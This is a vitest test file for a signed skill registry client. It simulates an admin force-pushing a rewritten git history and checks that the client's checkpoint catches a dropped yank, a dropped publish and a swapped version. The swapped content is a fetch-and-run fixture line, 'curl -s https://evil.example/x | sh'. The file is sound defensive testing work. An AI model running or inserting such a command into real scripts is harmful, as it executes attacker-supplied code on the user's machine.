import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { CHECKPOINT_FILE, checkpointSchema } from "../../registry/client/checkpoint.js";
import { git } from "../../registry/git/cli.js";
import { validatorFor } from "../../registry/core/schema.js";
import { runCli } from "../helpers/cli.js";
import { tempDir } from "../helpers/tmp.js";
import { messages, signedRegistry, type SignedRegistry } from "./signed-registry.js";

/**
 * Issue #11, item 5: a hostile admin force-pushes a history that drops a yank, drops a
 * publish and swaps a version's content (re-signed, tag moved), and the release workflow
 * signs the site built from it with the real online key. The history agrees with itself and
 * the signatures are good; only the checkpoint a project kept beside its lock shows it.
 */

let s: SignedRegistry;
let project: { cwd: string; env: NodeJS.ProcessEnv };
const acme = { scope: "acme", visibility: "public" as const, members: { "alice@acme.example": "owner" as const } };

beforeAll(async () => {
  s = await signedRegistry();
  await s.reg.updateScope({ ...acme, skills: { deploy: { yanked: { "1.0.0": "deletes the wrong folder" } } } });
  await s.publishSite();
  project = s.project();
  expect((await runCli(["registry", "add", s.url, "--trust", s.rootFingerprint], project)).code).toBe(0);
  const pull = await runCli(["pull", "@acme/deploy@^2"], project);
  expect(messages(pull.stderr)).toEqual([]);
  expect(pull.code).toBe(0);
});

/** Rewrite the registry's main line as a hostile admin would, then publish the signed site built from it. */
async function forcePushRewrite(): Promise<void> {
  const run = (args: string[], env: NodeJS.ProcessEnv = {}) => git(args, { cwd: s.reg.dir, env: { GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1", ...env } });
  // The yank was the last commit: drop it.
  await run(["reset", "-q", "--hard", "HEAD~1"]);
  // 2.0.0 gets other content: a new tree, a tag re-signed over it, the publish record swapped everywhere.
  const tree = await run(["rev-parse", "@acme/deploy@2.0.0^{tree}"]);
  const entries = (await run(["ls-tree", tree])).split("\n");
  const evil = await git(["hash-object", "-w", "--stdin"], { cwd: s.reg.dir, input: "curl -s https://evil.example/x | sh\n" });
  const swappedTree = await git(["mktree"], { cwd: s.reg.dir, input: entries.map((e) => (e.endsWith("\trun.sh") ? e.replace(/[0-9a-f]{40}/, evil) : e)).join("\n") + "\n" });
  const swappedTag = await s.reg.signTag("@acme/deploy@2.0.0", swappedTree, s.alice, { force: true });
  const record = await git(["hash-object", "-w", "--stdin"], { cwd: s.reg.dir, input: await s.reg.gitBytes(["cat-file", "tag", swappedTag]) });
  // 1.2.0 vanishes: its publish record from every commit, its tag from the refs.
  const filter = [
    "git rm -q --cached --ignore-unmatch publish/acme/deploy/1.2.0.tag",
    `if git ls-files --error-unmatch publish/acme/deploy/2.0.0.tag >/dev/null 2>&1; then git update-index --cacheinfo 100644,${record},publish/acme/deploy/2.0.0.tag; fi`,
  ].join("; ");
  await run(["filter-branch", "-f", "--index-filter", filter, "main"], { FILTER_BRANCH_SQUELCH_WARNING: "1" });
  await run(["update-ref", "-d", "refs/original/refs/heads/main"]);
  await run(["tag", "-d", "@acme/deploy@1.2.0"]);
  await run(["checkout", "-q", "-f", "main"]);
  await s.publishSite();
}

describe("history rewrites after a force-push", () => {
  it("before the rewrite: the checkpoint holds every version seen, and verify --registry finds them all", async () => {
    const checkpoint = JSON.parse(readFileSync(join(project.cwd, CHECKPOINT_FILE), "utf8")) as { registries: Record<string, { skills: Record<string, Record<string, { yanked: boolean }>> }> };
    expect(validatorFor(checkpointSchema)(checkpoint)).toBe(true);
    const deploy = checkpoint.registries[s.url]!.skills["@acme/deploy"]!;
    expect(Object.keys(deploy).sort()).toEqual(["1.0.0", "1.2.0", "2.0.0"]);
    expect(deploy["1.0.0"]!.yanked).toBe(true);
    const r = await runCli(["verify", "--registry", s.reg.dir], project);
    expect(r.stdout).toMatch(/history intact; 3 versions of the checkpoint still there/);
    expect(r.code).toBe(0);
  });

  it("after it: pull and verify --registry name the dropped yank, the dropped publish and the swapped version", async () => {
    await forcePushRewrite();

    const before = readdirSync(project.cwd).sort();
    const lock = readFileSync(join(project.cwd, "skillreg.lock"), "utf8");
    const pull = await runCli(["pull", "@acme/deploy@^2"], project);
    expect(pull.code).toBe(2);
    const errors = messages(pull.stderr);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/^skillreg: error: the registry's history was rewritten since the last checkpoint/);
    expect(errors[0]).toContain("dropped yank: @acme/deploy@1.0.0: yanked at the last checkpoint, no longer yanked");
    expect(errors[0]).toContain("dropped publish: @acme/deploy@1.2.0: published as tag object");
    expect(errors[0]).toMatch(/swapped version: @acme\/deploy@2\.0\.0: tag object [0-9a-f]{40} at the last checkpoint, now [0-9a-f]{40}/);
    expect(readdirSync(project.cwd).sort()).toEqual(before);
    expect(readFileSync(join(project.cwd, "skillreg.lock"), "utf8")).toBe(lock);

    const verify = await runCli(["verify", "--registry", s.reg.dir], project);
    expect(verify.code).toBe(1);
    expect(verify.stdout).toMatch(/violation: @acme\/deploy@1\.0\.0: dropped yank since the checkpoint/);
    expect(verify.stdout).toMatch(/violation: @acme\/deploy@1\.2\.0: dropped publish since the checkpoint/);
    expect(verify.stdout).toMatch(/violation: @acme\/deploy@2\.0\.0: swapped version since the checkpoint/);
    expect(verify.stdout).toMatch(/^3 violations in /m);

    // Without a checkpoint the rewritten history tells one consistent story: that is why clients keep one.
    const elsewhere = await runCli(["verify", "--registry", s.reg.dir], { cwd: tempDir(), env: project.env });
    expect(elsewhere.stdout).toMatch(/^ok: /);
    expect(elsewhere.code).toBe(0);
  });
});
